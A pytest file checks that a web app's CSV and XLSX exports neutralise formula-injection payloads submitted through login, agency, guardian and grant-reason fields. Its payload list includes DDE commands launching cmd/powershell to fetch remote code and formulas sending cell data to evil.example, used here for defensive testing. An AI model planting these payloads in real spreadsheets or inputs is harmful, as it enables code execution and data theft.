"""The one export writer (app/exports.py): the OWASP CSV-injection payloads pushed through every
CSV and XLSX the app produces, by the way an attacker would get them in — a failed login's name
(the audit trail, no sign-in needed), an agency name (the directory), a guardian name (the
monthly totals), a grant change's reason (the grant history) — and read back from the bytes:
the CSV text, and the XLSX sheet XML itself (no <f> formula element, every payload an inline or
shared string starting with the neutralising quote)."""
from __future__ import annotations

import csv
import datetime as dt
import io
import os
import re
import stat
import xml.etree.ElementTree as ET
import zipfile

import pytest
from sqlalchemy import select

from app import exports
from app.agencies.models import AgencyService, ServiceArea
from app.audit.models import AuditEvent
from app.auth.grants import grant_state, record_grant
from app.auth.services import login_key
from app.db import today_kst
from app.exports import safe_cell, unquote_cell, write_csv, write_xlsx
from app.extensions import db
from app.form_fields import strip_controls
from tests.guardians.conftest import make_eligible_guardian

#: OWASP "CSV Injection" payloads and the variants the issue names (control character first,
#: white space first, full-width forms); each ≤ 64 characters, the login form's limit
PAYLOADS = [
    "=cmd|' /C calc'!A0",
    "=cmd|' /C notepad'!'A1'",
    "=HYPERLINK(\"http://evil.example/?d=\"&D2,\"열기\")",
    "=1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "+1+1",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "=DDE(\"cmd\";\"/C calc\";\"!A0\")A0",
    "=cmd|'/C powershell IEX(wget evil.example/x)'!A0",
    "=IMPORTXML(CONCAT(\"http://evil.example/?v=\",A2),\"//a\")",
    "=WEBSERVICE(\"http://evil.example/?\"&A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1+1)",
    "\x01=HYPERLINK(\"http://evil.example/?d=\"&D2,\"열기\")",
    "\x1b=1+1",
    " =1+1",
    "  @SUM(1+1)",
    "\u3000=1+1",
    "\xa0+1+1",
    "\u200b=1+1",
]
TRIGGERS = "=+-@＝＋－＠\t\r\n"
_CONTROLS = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]")
NS = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}


def clean(text: str) -> str:
    """The payload as a file may hold it: the characters XML forbids removed."""
    return _CONTROLS.sub("", text)


def as_xml_reads(text: str) -> str:
    """XML parsers turn a line's CR into LF (a cell's text, not its guard)."""
    return text.replace("\r\n", "\n").replace("\r", "\n")


def dangerous(cell) -> bool:
    """What a spreadsheet would run (or hide a formula behind): a trigger first, or after white
    space or an invisible character."""
    if not isinstance(cell, str) or not cell:
        return False
    if cell[0] in "\t\r\n":
        return True
    return cell.lstrip(" \t\r\n\u3000\xa0\u200b\ufeff")[:1] in TRIGGERS


def test_every_payload_is_an_attack_before_the_guard():
    assert all(dangerous(clean(p)) for p in PAYLOADS) and all(len(p) <= 64 for p in PAYLOADS)


# -- the guard itself ---------------------------------------------------------------------------

@pytest.mark.parametrize("payload", PAYLOADS)
def test_safe_cell_strips_illegal_characters_first_then_neutralises(payload):
    value = safe_cell(payload)
    assert value == "'" + clean(payload)
    assert unquote_cell(value) == clean(payload)  # the directory import takes the quote off again


def test_ordinary_values_and_real_numbers_are_left_alone():
    day, moment = dt.date(2026, 3, 1), dt.datetime(2026, 3, 1, 9, 30)
    values = ["abc", "한글 이름", "", None, 5, -5, 2.5, -0.5, day, moment, True, "a=b", "02-123-4567", "  abc"]
    assert [safe_cell(v) for v in values] == values
    assert safe_cell("-") == "'-" and safe_cell("#N/A") == "#N/A"
    assert safe_cell("a\x00b\x0bc") == "abc"           # illegal characters go even without a formula
    assert safe_cell(type("Odd", (), {"__str__": lambda self: "=1+1"})()) == "'=1+1"  # str() of anything


def test_csv_writer_streams_paths_atomically_and_privately(tmp_path):
    path = tmp_path / "out.csv"
    written = write_csv(path, ["이름", "값"], ([p, n] for n, p in enumerate(PAYLOADS)))
    assert written == len(PAYLOADS)
    assert stat.S_IMODE(os.stat(path).st_mode) == 0o600
    assert [f.name for f in tmp_path.iterdir()] == ["out.csv"]  # no temporary file left
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    assert rows[0] == ["이름", "값"]
    assert [r[0] for r in rows[1:]] == ["'" + clean(p) for p in PAYLOADS]
    assert [r[1] for r in rows[1:]] == [str(n) for n in range(len(PAYLOADS))]


def test_a_failed_write_leaves_the_old_file_and_no_temporary_one(tmp_path):
    path = tmp_path / "out.csv"
    path.write_text("old")

    def rows():
        yield ["ok"]
        raise OSError("disk full")
    with pytest.raises(OSError):
        write_csv(path, ["a"], rows())
    assert path.read_text() == "old" and [f.name for f in tmp_path.iterdir()] == ["out.csv"]


def test_xlsx_writer_types_numbers_and_writes_every_text_as_a_string(tmp_path):
    path = tmp_path / "out.xlsx"
    counts = write_xlsx(path, [("시트", ["값", "수"], ([p, n] for n, p in enumerate(PAYLOADS))),
                               ("둘째", None, [["#N/A", 1.5, dt.date(2026, 3, 1)]])])
    assert counts == [len(PAYLOADS), 1] and stat.S_IMODE(os.stat(path).st_mode) == 0o600
    sheets = xlsx_cells(path.read_bytes())
    first, second = sheets.values()
    assert [c for c in first if c[0] == "string" and c[1].startswith("'")] == \
        [("string", as_xml_reads("'" + clean(p))) for p in PAYLOADS]
    assert ("n", "3") in first
    assert ("string", "#N/A") in second and ("n", "1.5") in second  # an error code stays text


def test_every_audit_export_format_is_private_and_leaves_no_temporary_file(app, build, tmp_path):
    from app.audit.export import EXPORT_FORMATS, write_export
    build.user("school_staff")
    db.session.commit()
    today = today_kst()
    for fmt in EXPORT_FORMATS:
        result = write_export(fmt, today, today, tmp_path / f"out.{fmt}", "점검")
        assert result.rows >= 1 and stat.S_IMODE(os.stat(result.path).st_mode) == 0o600, fmt
    assert sorted(f.name for f in tmp_path.iterdir()) == ["out.csv", "out.sqlite", "out.xlsx"]


# -- reading the files back -------------------------------------------------------------------

def xlsx_cells(body: bytes) -> dict[str, list[tuple[str, str]]]:
    """Every cell of every sheet as (kind, text), from the XML itself; fails on any formula."""
    book = zipfile.ZipFile(io.BytesIO(body))
    shared: list[str] = []
    if "xl/sharedStrings.xml" in book.namelist():
        root = ET.fromstring(book.read("xl/sharedStrings.xml"))
        shared = ["".join(t.text or "" for t in si.iter(f"{{{NS['m']}}}t")) for si in root.findall("m:si", NS)]
    sheets = {}
    for name in sorted(n for n in book.namelist() if re.fullmatch(r"xl/worksheets/sheet\d+\.xml", n)):
        root = ET.fromstring(book.read(name))
        assert root.findall(".//m:f", NS) == [], f"a formula in {name}"
        cells = []
        for c in root.iter(f"{{{NS['m']}}}c"):
            kind = c.get("t", "n")
            assert kind in ("inlineStr", "s", "n", "b", "d"), f"cell type {kind} in {name}"
            if kind == "inlineStr":
                cells.append(("string", "".join(t.text or "" for t in c.iter(f"{{{NS['m']}}}t"))))
            elif kind == "s":
                cells.append(("string", shared[int(c.find("m:v", NS).text)]))
            elif c.find("m:v", NS) is not None:
                cells.append((kind, c.find("m:v", NS).text))
        sheets[name] = cells
    return sheets


def check_xlsx(body: bytes, expected: list[str]) -> None:
    texts = [text for cells in xlsx_cells(body).values() for kind, text in cells if kind == "string"]
    assert not [t for t in texts if dangerous(t)]
    for value in expected:
        assert as_xml_reads("'" + clean(value)) in texts, value


def check_csv(text: str, expected: list[str]) -> None:
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    assert not [c for c in cells if dangerous(c)]
    for value in expected:
        assert "'" + clean(value) in cells, value


# -- every export of the app ------------------------------------------------------------------

def test_the_audit_exports_after_failed_logins_with_payload_names(app, build, client, login, tmp_path):
    """The issue's attack: nobody signed in, a name typed into the login form."""
    for payload in PAYLOADS:
        response = client.post("/login", data={"login": payload, "password": "wrong-password-1"})
        assert response.status_code in (200, 400)
    # the login form strips invisible control characters first (BaseForm, issue 19): "\x01=…" arrives as "=…"
    keys = [login_key(strip_controls(p)) for p in PAYLOADS]
    stored = set(db.session.execute(select(AuditEvent.object_id).filter_by(action="login_failed")).scalars())
    assert set(keys) <= stored
    auditor = build.user("auditor")
    db.session.commit()
    login(auditor)
    today = today_kst().isoformat()
    bodies = {}
    for fmt in ("csv", "xlsx"):
        with client.post("/audit/export", data={"start": today, "end": today, "fmt": fmt,
                                                "reason": "로그인 실패 점검"}) as response:
            assert response.status_code == 200, fmt
            bodies[fmt] = response.get_data()
    check_csv(bodies["csv"].decode("utf-8-sig"), keys)
    check_xlsx(bodies["xlsx"], keys)


def test_the_agency_directory_csv_with_payload_agency_names(build, client, login):
    coordinator = build.user("district_coordinator", organisation=build.organisation("district_office", gu="마포구"))
    for payload in PAYLOADS:
        agency = build.agency(gu="마포구", name=payload)
        service = AgencyService(organisation=agency, name="상담", domains=["counselling"], languages=["한국어"],
                                min_age=6, max_age=18, capacity_status="available", schedule=payload)
        service.areas = [ServiceArea(gu_id=build.gu("마포구").id)]
        db.session.add(service)
    db.session.commit()
    login(coordinator)
    response = client.get("/agencies/export.csv")
    assert response.status_code == 200
    text = response.get_data().decode("utf-8-sig")
    check_csv(text, PAYLOADS)
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert len(rows) == len(PAYLOADS) and all(r["organization_name"].startswith("'") for r in rows)
    assert {r["eligibility_min_age"] for r in rows} == {"6"}  # numbers are written as numbers


def test_the_guardian_totals_xlsx_with_payload_guardian_names(build, client, login):
    coordinator = build.user("district_coordinator", organisation=build.organisation("district_office", gu="마포구"))
    for payload in PAYLOADS:
        guardian = make_eligible_guardian(build, coordinator)
        guardian.name = payload  # whatever the form allows, the export must hold
    db.session.commit()
    login(coordinator)
    response = client.get(f"/guardians/totals.xlsx?month={today_kst():%Y-%m}")
    assert response.status_code == 200
    body = response.get_data()
    check_xlsx(body, PAYLOADS)
    cells = [c for sheet in xlsx_cells(body).values() for c in sheet]
    assert ("n", "0") in cells  # the counts stay numbers


def test_the_grant_history_exports_with_payload_reasons(build, client, login):
    admin = build.user("admin")
    for payload in PAYLOADS:
        user = build.user("school_staff")
        before = grant_state(user)
        user.active = False
        record_grant(user, "deactivated", admin, before=before, reason=payload)
    auditor = build.user("auditor")
    db.session.commit()
    login(auditor)
    for fmt in ("csv", "xlsx"):
        with client.post("/audit/grants/export",
                         data={"fmt": fmt, "reason": "권한 점검", "kind": "deactivated"}) as response:
            assert response.status_code == 200, fmt
            body = response.get_data()
        reasons = [p.strip() for p in PAYLOADS]  # a grant's reason is kept trimmed
        if fmt == "csv":
            check_csv(body.decode("utf-8-sig"), reasons)
        else:
            check_xlsx(body, reasons)


def test_exports_module_is_the_only_writer():
    """No other module keeps a guard of its own: one implementation."""
    import pathlib
    app_dir = pathlib.Path(exports.__file__).parent
    offenders = [str(path.relative_to(app_dir)) for path in app_dir.rglob("*.py")
                 if path.name != "exports.py"
                 and re.search(r"FORMULA_START|ILLEGAL_CHARACTERS_RE|csv\.writer\(|Workbook\(", path.read_text())]
    assert offenders == []
